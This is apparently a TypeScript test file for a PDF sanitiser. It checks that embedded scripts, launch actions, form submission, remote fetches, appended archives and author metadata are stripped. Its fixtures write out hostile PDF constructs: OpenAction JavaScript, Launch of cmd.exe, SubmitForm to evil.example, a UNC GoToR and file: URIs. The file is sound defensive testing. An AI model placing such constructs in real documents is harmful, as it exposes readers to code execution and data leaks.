import { PDFDocument, PDFRawStream, type PDFObject } from '@cantoo/pdf-lib'
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs'
import { describe, expect, it } from 'vitest'
import { zipOf } from './fixtures/archives'
import { copyOf, inspected } from './fixtures/inspected'
import { page, pageWith, stream } from './fixtures/pdfs'
import { FILE, lockedPdf, refusedPdfs, SCRIPT } from './fixtures/refused-pdfs'

describe('a PDF that is refused', () => {
  it.each(refusedPdfs.map(([what, , bytes, fault]) => ({ what, bytes, fault })))('has $what: $fault', async ({ bytes, fault }) => {
    expect(await inspected('a.pdf', bytes())).toBe(fault)
  })
})

/** What a PDF says, to another program than the one that wrote it; and whether it would act by itself. */
async function readBack(pdf: Buffer): Promise<{ readonly text: string; readonly acts: readonly string[]; readonly links: readonly string[] }> {
  const document = await getDocument({ data: new Uint8Array(pdf), verbosity: 0 }).promise
  const texts: string[] = []
  const acts: string[] = Object.keys((await document.getJSActions()) ?? {})
  const links: string[] = []
  for (let number = 1; number <= document.numPages; number++) {
    const one = await document.getPage(number)
    texts.push(...(await one.getTextContent()).items.map((item) => ('str' in item ? item.str : '')))
    acts.push(...Object.keys((await one.getJSActions()) ?? {}))
    for (const annotation of (await one.getAnnotations()) as { unsafeUrl?: string; actions?: object; action?: string }[]) {
      acts.push(...Object.keys(annotation.actions ?? {}), ...(annotation.action ? [annotation.action] : []))
      if (annotation.unsafeUrl) links.push(annotation.unsafeUrl)
    }
  }
  acts.push(...((await document.getOpenAction()) === null ? [] : ['open']))
  await document.destroy()
  return { text: texts.join(''), acts, links }
}
const readable = (object: PDFObject) => (object instanceof PDFRawStream ? `${object.dict.toString()} ${Buffer.from(object.contents).toString('latin1')}` : object.toString())
/** Everything in a PDF, unpacked: nothing hides in a packed stream. */
async function unpacked(pdf: Buffer): Promise<string> {
  const loaded = await PDFDocument.load(pdf, { updateMetadata: false })
  return [JSON.stringify(loaded.context.trailerInfo.Info?.toString()), ...loaded.context.enumerateIndirectObjects().map(([, object]) => readable(object))].join('\n')
}

const tamed: readonly (readonly [what: string, bytes: () => Buffer | Promise<Buffer>, gone: RegExp])[] = [
  ['a script on opening', () => page({ catalog: `/OpenAction ${SCRIPT}` }), /JavaScript|JS|alert/],
  ['a script on opening, as an object', () => page({ catalog: '/OpenAction 6 0 R', objects: [SCRIPT] }), /JavaScript|JS|alert/],
  ['a script with a name', () => page({ catalog: `/Names <</JavaScript <</Names [(a) ${SCRIPT}]>>>>` }), /JavaScript|alert/],
  ['a script in codes', () => page({ catalog: '/Open#41ction <</S /Java#53cript /J#53 (app.alert\\(1\\))>>' }), /JavaScript|alert/],
  ['a script after a harmless step', () => pageWith(`/Subtype /Link /A <</S /GoTo /D [3 0 R /Fit] /Next [${SCRIPT}]>>`), /JavaScript|alert/],
  ['a script when a page is shown', () => page({ onPage: `/AA <</O ${SCRIPT}>>` }), /JavaScript|alert/],
  ['a script in a box of a form', () => page({ catalog: '/AcroForm <</Fields [6 0 R]>>', onPage: '/Annots [6 0 R]', objects: [`<</Type /Annot /Subtype /Widget /FT /Tx /T (box) /Rect [0 0 9 9] /AA <</K ${SCRIPT}>> /A ${SCRIPT}>>`] }), /JavaScript|alert/],
  ['a script in an outline', () => page({ catalog: '/Outlines 6 0 R', objects: ['<</First 7 0 R /Last 7 0 R /Count 1>>', `<</Title (x) /Parent 6 0 R /A ${SCRIPT}>>`] }), /JavaScript|alert/],
  ['a script hidden in packed objects', async () => Buffer.from(await (await PDFDocument.load(page({ catalog: `/OpenAction ${SCRIPT}` }), { updateMetadata: false })).save({ useObjectStreams: true })), /JavaScript|alert/],
  ['a program to start', () => pageWith('/Subtype /Link /A <</S /Launch /F (cmd.exe)>>'), /Launch|cmd/],
  ['a program to start on opening', () => page({ catalog: '/OpenAction <</S /Launch /Win <</F (calc.exe)>>>>' }), /Launch|calc/],
  ['a form that sends itself', () => pageWith('/Subtype /Link /A <</S /SubmitForm /F (https://evil.example)>>'), /SubmitForm|evil/],
  ['data that it fetches', () => pageWith('/Subtype /Link /A <</S /ImportData /F (x)>>'), /ImportData/],
  ['another document that it opens', () => pageWith('/Subtype /Link /A <</S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf)>>'), /GoToR|evil/],
  ['a link that is a script', () => pageWith('/Subtype /Link /A <</S /URI /URI (javascript:alert\\(1\\))>>'), /javascript|alert/],
  ['a link to a disk', () => pageWith('/Subtype /Link /A <</S /URI /URI (file:///c:/secret)>>'), /secret/],
  ['a form of another format beside it', () => page({ catalog: '/AcroForm <</Fields [] /XFA 6 0 R>>', objects: [stream(Buffer.from('<xdp>evil</xdp>'))] }), /XFA/],
  ['objects that no page leads to', () => page({ objects: [SCRIPT, FILE] }), /JavaScript|EmbeddedFile/],
  ['who made it, and with what', () => page({ catalog: '/Metadata 6 0 R /PieceInfo <</App (Canary)>>', objects: [{ dictionary: '/Type /Metadata /Subtype /XML', bytes: Buffer.from('Jane Canary') }, '<</Author (Jane Canary) /Producer (Canary)>>'], trailer: '/Info 7 0 R' }), /Canary/],
  ['who wrote a note', () => pageWith('/Subtype /Text /T (Jane Canary) /Contents (A note)'), /Canary/],
  ['who signed it', () => page({ catalog: '/AcroForm <</SigFlags 3 /Fields [6 0 R]>> /Perms <</DocMDP 7 0 R>>', onPage: '/Annots [6 0 R]', objects: ['<</Type /Annot /Subtype /Widget /FT /Sig /T (sig) /Rect [0 0 9 9] /V 7 0 R>>', '<</Type /Sig /Name (Jane Canary) /ByteRange [0 1 2 3] /Contents <00>>>'] }), /Canary/],
]

describe('a PDF that is tamed', () => {
  it.each(tamed.map(([what, bytes, gone]) => ({ what, bytes, gone })))('loses $what and keeps its words', async ({ bytes, gone }) => {
    const before = Buffer.from(await bytes())
    const copy = await copyOf('a.pdf', before)
    expect(await unpacked(before)).toMatch(gone)
    expect(await unpacked(copy)).not.toMatch(gone)
    expect(copy.toString('latin1')).not.toMatch(gone)
    expect(await readBack(copy)).toEqual({ text: 'Maya reads well.', acts: [], links: [] })
  })

  it('keeps links to the web and to its own pages', async () => {
    expect((await readBack(await copyOf('a.pdf', pageWith('/Subtype /Link /A <</S /URI /URI (https://www.example.org/help)>>')))).links).toEqual(['https://www.example.org/help'])
    expect(await unpacked(await copyOf('a.pdf', pageWith('/Subtype /Link /A <</S /GoTo /D [3 0 R /Fit]>>')))).toMatch(/GoTo/)
  })

  it('keeps the names of the boxes of a form', async () => {
    const form = page({ catalog: '/AcroForm <</Fields [6 0 R]>>', onPage: '/Annots [6 0 R]', objects: ['<</Type /Annot /Subtype /Widget /FT /Tx /T (child) /V (Maya) /Rect [0 0 9 9]>>'] })
    const copy = await PDFDocument.load(await copyOf('a.pdf', form))
    expect(copy.getForm().getTextField('child').getText()).toBe('Maya')
  })

  it('loses what was put behind it', async () => {
    const copy = await copyOf('a.pdf', Buffer.concat([page(), await zipOf({ 'evil.txt': 'evil' })]))
    expect(copy.includes('evil')).toBe(false)
    expect((await readBack(copy)).text).toBe('Maya reads well.')
  })

  it('with pages that lead to themselves is read once', async () => {
    const copy = await copyOf('a.pdf', page({ catalog: '/Thing 6 0 R', objects: ['<</Self 6 0 R /Other 7 0 R>>', '[6 0 R 7 0 R]'] }))
    expect((await readBack(copy)).text).toBe('Maya reads well.')
  })

  it('that is locked against changes only can be read by everybody, and stays so', async () => {
    const copy = await copyOf('a.pdf', lockedPdf(''))
    expect((await readBack(copy)).text).toBe('Maya reads well.')
    expect((await PDFDocument.load(copy)).isEncrypted).toBe(false)
  })
})
